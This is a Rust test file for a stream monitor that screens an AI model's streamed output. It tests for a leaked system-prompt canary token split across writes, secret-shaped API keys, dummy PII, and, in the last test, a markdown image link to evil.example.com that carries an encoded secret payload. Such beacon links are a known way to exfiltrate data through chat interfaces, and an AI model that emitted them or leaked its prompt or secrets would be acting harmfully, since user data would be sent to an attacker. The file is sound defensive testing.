//! End-to-end tests for the Stream Monitor under combined output-side
//! threats: canary-token leaks, secrets, PII, and injection payloads
//! arriving across several small writes rather than one.

use std::sync::{Arc, Mutex};

use aegis_stream::{StreamMonitor, StreamMonitorConfig};

#[test]
fn canary_leak_spans_two_writes_and_still_terminates() {
    let config = StreamMonitorConfig { canaries: vec!["CANARY-77a1".to_string()], ..StreamMonitorConfig::default() };
    let mut monitor = StreamMonitor::new(config).unwrap();

    monitor.write("The system prompt contains the token CAN").unwrap();
    let result = monitor.write("ARY-77a1 right here.");

    assert!(result.is_err());
    assert!(monitor.is_terminated());

    let after = monitor.write("anything");
    assert!(matches!(after, Err(_)));
}

#[test]
fn secret_shaped_token_terminates_even_with_pii_redaction_enabled() {
    let config = StreamMonitorConfig { pii_redaction: true, ..StreamMonitorConfig::default() };
    let mut monitor = StreamMonitor::new(config).unwrap();

    let result = monitor.write("here is the key: sk-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH");
    assert!(result.is_err());
    assert!(monitor.is_terminated());
}

#[test]
fn pii_is_redacted_in_place_when_redaction_enabled_and_stream_continues() {
    let mut monitor = StreamMonitor::new(StreamMonitorConfig::default()).unwrap();

    let outcome = monitor.write("Contact me at jane.doe@example.com for the report.").unwrap();
    assert!(!outcome.emitted.contains("jane.doe@example.com"));
    assert!(!monitor.is_terminated());
}

#[test]
fn pii_terminates_when_redaction_disabled() {
    let config = StreamMonitorConfig { pii_redaction: false, ..StreamMonitorConfig::default() };
    let mut monitor = StreamMonitor::new(config).unwrap();

    let result = monitor.write("My SSN is 123-45-6789, please use it for verification.");
    assert!(result.is_err());
    assert!(monitor.is_terminated());
}

#[test]
fn violation_callback_fires_exactly_once() {
    let config = StreamMonitorConfig { pii_redaction: false, ..StreamMonitorConfig::default() };
    let mut monitor = StreamMonitor::new(config).unwrap();
    let fire_count = Arc::new(Mutex::new(0u32));
    let counter = fire_count.clone();
    monitor.set_on_violation(move |_v| {
        *counter.lock().unwrap() += 1;
    });

    let _ = monitor.write("My SSN is 123-45-6789.");
    let _ = monitor.write("another write after termination");
    let _ = monitor.write("yet another");

    assert_eq!(*fire_count.lock().unwrap(), 1);
}

#[test]
fn benign_streaming_output_passes_through_unmodified_across_many_chunks() {
    let mut monitor = StreamMonitor::new(StreamMonitorConfig::default()).unwrap();
    let chunks = ["The weather ", "today is sunny ", "with a light breeze ", "from the west."];

    let mut full_output = String::new();
    for chunk in chunks {
        let outcome = monitor.write(chunk).unwrap();
        full_output.push_str(&outcome.emitted);
    }

    assert_eq!(full_output, chunks.concat());
    assert!(!monitor.is_terminated());
}

#[test]
fn markdown_exfiltration_beacon_is_sanitized_not_terminated() {
    let mut monitor = StreamMonitor::new(StreamMonitorConfig::default()).unwrap();
    let beacon =
        "Here's an image: ![report](https://evil.example.com/beacon?q=some-long-encoded-secret-payload-value-extended)";

    let outcome = monitor.write(beacon).unwrap();
    assert!(!outcome.emitted.contains("evil.example.com"));
    assert!(!monitor.is_terminated());
}
